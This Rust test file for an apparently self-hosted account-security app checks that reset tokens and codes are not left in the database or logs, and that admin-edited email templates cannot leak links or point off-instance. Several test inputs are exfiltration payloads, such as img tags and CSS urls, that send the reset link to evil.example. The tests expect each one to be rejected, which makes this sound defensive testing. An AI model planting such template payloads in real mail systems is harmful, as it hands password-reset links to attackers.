//! No secret at rest or in logs, and templates that cannot leak links. A delivered mail keeps
//! no body; codes are not in subjects; request logs redact query values; an administrator's
//! template can neither read a link or code nor point anywhere but this instance, and saving one
//! needs step-up, is audited with a diff and is announced to the other administrators. On SQLite
//! and PostgreSQL.

mod common;

use std::io::Write;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use common::{Db, TestApp, PASSWORD};
use serde_json::Value;

on_both_databases!(
    v16_2_5_no_link_token_or_code_is_left_in_the_database_or_the_debug_logs,
    v14_2_7_a_mail_keeps_its_body_only_while_it_may_still_be_sent,
    v6_4_3_a_template_cannot_read_the_reset_link_or_code,
    v6_4_3_a_template_cannot_point_outside_this_instance,
    v7_5_3_saving_a_template_needs_a_recent_password,
    v16_3_3_a_saved_template_is_audited_with_its_diff_and_mailed_to_the_other_admins,
    a_stored_template_that_reads_a_removed_variable_falls_back_to_the_built_in_one,
);

const ADA: &str = "ada@example.org";
const P2: &str = "Fresh-Meadow-Copper-7741";
const P3: &str = "Quiet-Orchard-Violet-5382";

/// Every log line of this test binary, at DEBUG, from the moment the first test asks for it.
fn captured_logs() -> Arc<Mutex<Vec<u8>>> {
    static LOGS: OnceLock<Arc<Mutex<Vec<u8>>>> = OnceLock::new();
    LOGS.get_or_init(|| {
        struct Sink(Arc<Mutex<Vec<u8>>>);
        impl Write for Sink {
            fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
                self.0.lock().unwrap().extend_from_slice(buf);
                Ok(buf.len())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let buffer = Arc::new(Mutex::new(Vec::new()));
        let for_writer = buffer.clone();
        // The test's own HTTP client is not the server: its lines are left out.
        let filter = tracing_subscriber::EnvFilter::new("debug,reqwest=off,hyper_util::client=off");
        tracing_subscriber::fmt()
            .with_env_filter(filter)
            .with_ansi(false)
            .with_writer(move || Sink(for_writer.clone()))
            .try_init()
            .expect("the test binary's only subscriber");
        buffer
    })
    .clone()
}

fn token_in(text: &str) -> String {
    let start = text.find("token=").expect("a link with a token") + "token=".len();
    text[start..]
        .chars()
        .take_while(|c| c.is_ascii_hexdigit())
        .collect()
}

fn code_in(text: &str) -> String {
    text.lines()
        .map(str::trim)
        .find(|l| l.len() == 6 && l.bytes().all(|b| b.is_ascii_digit()))
        .expect("a 6-digit code on its own line")
        .to_owned()
}

/// Whether `needle` occurs in `hay` as a whole word: not inside a longer run of hex digits (a
/// hash or a timestamp that happens to contain the same six digits).
fn occurs(hay: &[u8], needle: &str) -> bool {
    let n = needle.as_bytes();
    hay.windows(n.len()).enumerate().any(|(at, w)| {
        w == n
            && !at
                .checked_sub(1)
                .is_some_and(|b| hay[b].is_ascii_hexdigit())
            && !hay.get(at + n.len()).is_some_and(|c| c.is_ascii_hexdigit())
    })
}

/// The path and query of a link in a mail (mails use `base_url`, not the test server's port).
fn local(app: &TestApp, link: &str) -> String {
    let url = url::Url::parse(link).unwrap();
    app.url(&format!("{}?{}", url.path(), url.query().unwrap_or("")))
}

async fn v16_2_5_no_link_token_or_code_is_left_in_the_database_or_the_debug_logs(app: &TestApp) {
    // From here on every line the server logs is captured.
    let logs = captured_logs();
    let admin = app.admin("root@example.org").await;
    let laptop = app.member(ADA).await;

    // Forgot password: the link is opened (a GET with ?token=) and used.
    let anon = app.new_browser();
    app.call(&anon, "forgot_password", &[("email", ADA)]).await;
    let reset = app.delivered_mail("password_reset", Some(ADA)).await;
    let reset_token = token_in(&reset.text);
    let link = reset
        .text
        .split_whitespace()
        .find(|w| w.contains("token="))
        .unwrap();
    assert_eq!(
        anon.get(local(app, link)).send().await.unwrap().status(),
        200
    );
    let form = [
        ("token", reset_token.as_str()),
        ("password", P2),
        ("password_confirm", P2),
    ];
    assert_eq!(app.call(&anon, "reset_password", &form).await.status(), 200);

    // A new device: the alert's "This wasn't me" link is opened.
    assert_eq!(app.sign_in(&laptop, ADA, P2).await.status(), 200);
    let phone = app.new_browser();
    assert_eq!(app.sign_in(&phone, ADA, P2).await.status(), 200);
    let alert = app.delivered_mail("new_device", Some(ADA)).await;
    let not_me_token = token_in(&alert.text);
    let not_me = alert
        .text
        .split_whitespace()
        .find(|w| w.contains("token="))
        .unwrap();
    assert_eq!(
        phone.get(local(app, not_me)).send().await.unwrap().status(),
        200
    );

    // The reset task with its code.
    app.compromise_user(&admin, ADA, false).await;
    let status: Value = app
        .call(&phone, "reset_task_status", &[])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(status["email_verified"], false, "{status}");
    let code_mail = app.delivered_mail("reset_code", Some(ADA)).await;
    let code = code_in(&code_mail.text);
    assert!(!code_mail.subject.contains(&code), "no code in the subject");
    assert!(code_mail.html.contains(&code), "the code is in the body");
    let r = app
        .call(&phone, "reset_task_verify_code", &[("code", &code)])
        .await;
    assert_eq!(r.status(), 200);
    let form = [("password", P3), ("password_confirm", P3)];
    assert_eq!(
        app.call(&phone, "reset_task_complete", &form)
            .await
            .status(),
        200
    );

    // Everything delivered: no body left anywhere.
    let mut settled = false;
    for _ in 0..200 {
        if app
            .count("SELECT COUNT(*) FROM outbox WHERE status <> 'sent'")
            .await
            == 0
        {
            settled = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(settled, "every mail delivered");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM outbox WHERE html <> '' OR text <> ''")
            .await,
        0,
        "no delivered mail keeps its body"
    );
    let rows: Vec<(String, String, String)> =
        sqlx::query_as("SELECT subject, html, text FROM outbox")
            .fetch_all(app.state.store.pool())
            .await
            .unwrap();
    for (subject, html, text) in &rows {
        for secret in [&reset_token, &not_me_token, &code] {
            let row = format!("{subject}\n{html}\n{text}");
            assert!(!occurs(row.as_bytes(), secret), "{secret} in an outbox row");
        }
    }
    if app.db == Db::Sqlite {
        // The database file and its write-ahead log: the worker checkpoints after deleting.
        let file = app.database_url.trim_start_matches("sqlite://").to_owned();
        let mut clean = false;
        for _ in 0..100 {
            let mut bytes = std::fs::read(&file).unwrap();
            bytes.extend(std::fs::read(format!("{file}-wal")).unwrap_or_default());
            clean = [&reset_token, &not_me_token, &code]
                .iter()
                .all(|s| !occurs(&bytes, s));
            if clean {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert!(clean, "a token or the code is left in {file} or its WAL");
    }
    let logged = String::from_utf8_lossy(&logs.lock().unwrap()).into_owned();
    assert!(
        logged.contains("/reset-password?token=REDACTED"),
        "request URIs are logged, redacted"
    );
    for secret in [&reset_token, &not_me_token, &code] {
        assert!(!occurs(logged.as_bytes(), secret), "{secret} in the logs");
    }
}

async fn v14_2_7_a_mail_keeps_its_body_only_while_it_may_still_be_sent(app: &TestApp) {
    use keywarden::storage::outbox;
    let admin = app.admin("root@example.org").await;
    let b = app.member(ADA).await;
    app.call(&b, "forgot_password", &[("email", ADA)]).await;
    let delivered = app.delivered_mail("password_reset", Some(ADA)).await;
    assert!(delivered.text.contains("token="), "the mail went out whole");
    let (status, subject, html, text): (String, String, String, String) =
        sqlx::query_as("SELECT status, subject, html, text FROM outbox WHERE id = $1")
            .bind(delivered.id)
            .fetch_one(app.state.store.pool())
            .await
            .unwrap();
    assert_eq!(status, "sent");
    assert_eq!(
        subject, "Reset your Keywarden password",
        "the subject is kept"
    );
    assert_eq!((html.as_str(), text.as_str()), ("", ""));
    // A mail that fails keeps its body for the retry, and loses it when it fails for good.
    let mut conn = app.state.store.pool().acquire().await.unwrap();
    let now = app.clock.now();
    let id = outbox::insert(
        &mut conn,
        outbox::NewMail {
            kind: "password_reset",
            to_address: "bob@example.org",
            subject: "s",
            html: "<p>secret-html</p>",
            text: "secret-text",
            now: now + 3_600_000,
        },
    )
    .await
    .unwrap();
    sqlx::query("UPDATE outbox SET lease_owner = 'test' WHERE id = $1")
        .bind(id)
        .execute(&mut *conn)
        .await
        .unwrap();
    outbox::mark_attempt_failed(&mut conn, id, "test", "refused", Some(now + 3_600_000))
        .await
        .unwrap();
    assert_eq!(
        body_of(&mut conn, id).await.1,
        "secret-text",
        "kept for the retry"
    );
    sqlx::query("UPDATE outbox SET lease_owner = 'test' WHERE id = $1")
        .bind(id)
        .execute(&mut *conn)
        .await
        .unwrap();
    outbox::mark_attempt_failed(&mut conn, id, "test", "refused", None)
        .await
        .unwrap();
    assert_eq!(body_of(&mut conn, id).await, (String::new(), String::new()));
    drop(conn);
    // The E-mail page still lists it, and says the body is gone.
    let overview: Value = app
        .call(&admin, "admin_mail_overview", &[])
        .await
        .json()
        .await
        .unwrap();
    let problem = &overview["problems"][0];
    assert_eq!(problem["to"], "bob@example.org");
    assert_eq!(problem["status"], "failed");
    assert_eq!(problem["body"], "Deleted after the last attempt");
}

async fn body_of(conn: &mut sqlx::AnyConnection, id: i64) -> (String, String) {
    sqlx::query_as("SELECT html, text FROM outbox WHERE id = $1")
        .bind(id)
        .fetch_one(conn)
        .await
        .unwrap()
}

/// Saves a template as the editor posts it.
async fn save(
    app: &TestApp,
    admin: &reqwest::Client,
    kind: &str,
    parts: (&str, &str, &str),
    password: Option<&str>,
) -> reqwest::Response {
    let mut form = vec![
        ("kind", kind),
        ("subject", parts.0),
        ("html", parts.1),
        ("text", parts.2),
    ];
    if let Some(p) = password {
        form.push(("password", p));
    }
    app.call(admin, "admin_save_template", &form).await
}

async fn field_error(r: reqwest::Response) -> (String, String) {
    assert_eq!(r.status(), 422);
    let v: Value = r.json().await.unwrap();
    (
        v["Field"]["field"].as_str().unwrap().to_owned(),
        v["Field"]["message"].as_str().unwrap().to_owned(),
    )
}

const GOOD_HTML: &str = "<p>Hello {{ user_email }}</p>\n{{ action_block }}\n<p>Thanks</p>";
const GOOD_TEXT: &str = "Hello {{ user_email }}\n\n{{ action_block }}\n";

async fn templates_saved(app: &TestApp) -> i64 {
    app.count("SELECT COUNT(*) FROM email_templates").await
}

async fn v6_4_3_a_template_cannot_read_the_reset_link_or_code(app: &TestApp) {
    let admin = app.admin("root@example.org").await;
    let exfiltrate = r#"<img src="{{ base_url }}/pixel?{{ reset_url }}">{{ action_block }}"#;
    let (field, message) = field_error(
        save(
            app,
            &admin,
            "password_reset",
            ("Hi", exfiltrate, GOOD_TEXT),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(field, "html");
    assert!(message.contains("{{ reset_url }}"), "{message}");
    let (field, message) = field_error(
        save(
            app,
            &admin,
            "reset_code",
            ("{{ code }} is your code", GOOD_HTML, GOOD_TEXT),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(field, "subject");
    assert!(message.contains("{{ code }}"), "{message}");
    let (field, message) = field_error(
        save(
            app,
            &admin,
            "new_device",
            ("Hi", GOOD_HTML, "{{ not_me_url }}\n{{ action_block }}"),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(field, "text");
    assert!(message.contains("{{ not_me_url }}"), "{message}");
    // The block itself cannot be moved into an attribute, a link or transformed away.
    for html in [
        r#"<img src="{{ base_url }}/p?{{ action_block | urlencode }}">"#,
        r#"<a href="{{ base_url }}/">{{ action_block }}</a>"#,
        r#"<p title="{{ action_block }}">x</p>"#,
        "<p>{{ action_block | upper }}</p>",
    ] {
        let (field, _) =
            field_error(save(app, &admin, "password_reset", ("Hi", html, GOOD_TEXT), None).await)
                .await;
        assert_eq!(field, "html", "{html}");
    }
    let (field, _) = field_error(
        save(
            app,
            &admin,
            "password_reset",
            ("Hi", GOOD_HTML, "go {{ action_block }}"),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(field, "text", "the text block stands on its own line");
    assert_eq!(templates_saved(app).await, 0, "nothing was saved");
    // A correct template is saved, and escaping holds in the mail it produces.
    let r = save(
        app,
        &admin,
        "password_reset",
        ("Reset for {{ user_email }}", GOOD_HTML, GOOD_TEXT),
        None,
    )
    .await;
    assert_eq!(r.status(), 200);
    let b = app.member(ADA).await;
    app.call(&b, "forgot_password", &[("email", ADA)]).await;
    let mail = app.delivered_mail("password_reset", Some(ADA)).await;
    let link = app.url("/reset-password?token=");
    assert!(mail
        .text
        .contains(&format!("Choose a new password: {link}")));
    assert!(mail.html.contains(&format!(r#"<a href="{link}"#)));
    assert!(mail.text.starts_with("Hello ada@example.org"));
}

async fn v6_4_3_a_template_cannot_point_outside_this_instance(app: &TestApp) {
    let admin = app.admin("root@example.org").await;
    for (html, text, field, url) in [
        (
            r#"<img src="https://evil.example/p.gif">{{ action_block }}"#,
            GOOD_TEXT,
            "html",
            "https://evil.example/p.gif",
        ),
        (
            r#"<p style="background:url(//evil.example/b)">x</p>{{ action_block }}"#,
            GOOD_TEXT,
            "html",
            "//evil.example/b",
        ),
        (
            GOOD_HTML,
            "See https://evil.example/help\n{{ action_block }}\n",
            "text",
            "https://evil.example/help",
        ),
    ] {
        let r = save(app, &admin, "password_reset", ("Hi", html, text), None).await;
        let (f, message) = field_error(r).await;
        assert_eq!(f, field);
        assert!(message.contains(url), "{message}");
        let preview = app
            .call(
                &admin,
                "admin_preview_template",
                &[
                    ("kind", "password_reset"),
                    ("subject", "Hi"),
                    ("html", html),
                    ("text", text),
                ],
            )
            .await;
        assert_eq!(
            field_error(preview).await.0,
            field,
            "the preview refuses it too"
        );
    }
    assert_eq!(templates_saved(app).await, 0);
    let own = r#"<p><a href="{{ base_url }}/account">Your account</a></p>{{ action_block }}"#;
    assert_eq!(
        save(app, &admin, "password_reset", ("Hi", own, GOOD_TEXT), None)
            .await
            .status(),
        200,
        "links to this instance are fine"
    );
}

async fn v7_5_3_saving_a_template_needs_a_recent_password(app: &TestApp) {
    let admin = app.admin("root@example.org").await;
    let parts = ("Reset", GOOD_HTML, GOOD_TEXT);
    app.clock.advance(Duration::from_secs(6 * 60));
    let draft: Value = app
        .call(
            &admin,
            "admin_template_draft",
            &[("kind", "password_reset")],
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(draft["step_up_needed"], true);
    let (field, _) = field_error(save(app, &admin, "password_reset", parts, None).await).await;
    assert_eq!(field, "password");
    let (field, _) = field_error(
        save(
            app,
            &admin,
            "password_reset",
            parts,
            Some("Wrong-Password-1234"),
        )
        .await,
    )
    .await;
    assert_eq!(field, "password");
    assert_eq!(templates_saved(app).await, 0);
    assert_eq!(
        save(app, &admin, "password_reset", parts, Some(PASSWORD))
            .await
            .status(),
        200
    );
    assert_eq!(
        save(app, &admin, "password_reset", parts, None)
            .await
            .status(),
        200,
        "the proof counts for the next five minutes"
    );
}

async fn v16_3_3_a_saved_template_is_audited_with_its_diff_and_mailed_to_the_other_admins(
    app: &TestApp,
) {
    let admin = app.admin("root@example.org").await;
    app.admin("second@example.org").await;
    app.admin("third@example.org").await;
    let html = keywarden::email::templates::default_template(
        keywarden::email::templates::MailKind::PasswordReset,
    )
    .html
    .replacen("Reset your password", "Choose a new password now", 1);
    let r = save(
        app,
        &admin,
        "password_reset",
        ("Reset it, {{ user_email }}", &html, GOOD_TEXT),
        None,
    )
    .await;
    assert_eq!(r.status(), 200);
    let (details,): (String,) = sqlx::query_as(
        "SELECT details FROM audit_log WHERE action = 'email_template.updated' ORDER BY seq DESC LIMIT 1",
    )
    .fetch_one(app.state.store.pool())
    .await
    .unwrap();
    let details: Value = serde_json::from_str(&details).unwrap();
    assert_eq!(details["kind"], "password_reset");
    assert_eq!(
        details["diff"]["subject"],
        "- Reset your {{ product_name }} password\n+ Reset it, {{ user_email }}"
    );
    let html_diff = details["diff"]["html"].as_str().unwrap();
    assert!(html_diff.contains("+ <h1") && html_diff.contains("Choose a new password now"));
    assert_eq!(
        html_diff.lines().count(),
        2,
        "only the changed line: {html_diff}"
    );
    let text_diff = details["diff"]["text"].as_str().unwrap();
    assert!(text_diff.contains("- Reset your password\n"), "{text_diff}");
    assert!(
        text_diff.contains("+ Hello {{ user_email }}"),
        "{text_diff}"
    );
    let to: Vec<(String,)> = sqlx::query_as(
        "SELECT to_address FROM outbox WHERE kind = 'template_changed' ORDER BY to_address",
    )
    .fetch_all(app.state.store.pool())
    .await
    .unwrap();
    let to: Vec<&str> = to.iter().map(|(t,)| t.as_str()).collect();
    assert_eq!(to, ["second@example.org", "third@example.org"]);
    let mail = app
        .delivered_mail("template_changed", Some("second@example.org"))
        .await;
    assert!(mail
        .text
        .contains("root@example.org changed the template \"Password reset link\""));
    // The notification itself cannot be edited.
    let r = app
        .call(
            &admin,
            "admin_template_draft",
            &[("kind", "template_changed")],
        )
        .await;
    assert_eq!(r.status(), 422);
}

async fn a_stored_template_that_reads_a_removed_variable_falls_back_to_the_built_in_one(
    app: &TestApp,
) {
    let admin = app.admin("root@example.org").await;
    // Saved before this release: it reads the link directly.
    let mut conn = app.state.store.pool().acquire().await.unwrap();
    keywarden::storage::settings::put_template(
        &mut conn,
        "password_reset",
        "Reset",
        r#"<img src="https://evil.example/?{{ reset_url }}">"#,
        "{{ reset_url }}",
        app.clock.now(),
        1,
    )
    .await
    .unwrap();
    drop(conn);
    let draft: Value = app
        .call(
            &admin,
            "admin_template_draft",
            &[("kind", "password_reset")],
        )
        .await
        .json()
        .await
        .unwrap();
    let notice = draft["notice"].as_str().unwrap();
    assert!(
        notice.contains("not in use") && notice.contains("{{ reset_url }}"),
        "{notice}"
    );
    let overview: Value = app
        .call(&admin, "admin_mail_overview", &[])
        .await
        .json()
        .await
        .unwrap();
    let summary = overview["templates"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["kind"] == "password_reset")
        .unwrap()
        .clone();
    assert_eq!(summary["in_use"], false);
    let b = app.member(ADA).await;
    app.call(&b, "forgot_password", &[("email", ADA)]).await;
    let mail = app.delivered_mail("password_reset", Some(ADA)).await;
    assert_eq!(
        mail.subject, "Reset your Keywarden password",
        "the built-in one"
    );
    assert!(!mail.html.contains("evil.example"));
}
